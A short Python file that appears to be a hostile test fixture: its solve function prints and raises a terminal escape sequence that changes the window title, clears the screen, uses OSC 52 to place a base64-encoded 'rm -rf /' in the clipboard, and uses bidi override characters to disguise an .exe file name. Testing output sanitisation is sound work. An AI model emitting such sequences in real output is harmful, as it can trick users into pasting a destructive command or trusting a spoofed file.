"""Fails with an error that moves the cursor, sets the title, fills the clipboard and turns the text's direction."""

CONTROL = "\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIC8=\x07\x1b[2J\x1b[1;1H\x9b31m\r\x08\u202e\u2066gpj.exe"


def solve(bait):
    print(CONTROL, flush=True)
    raise ValueError(CONTROL)
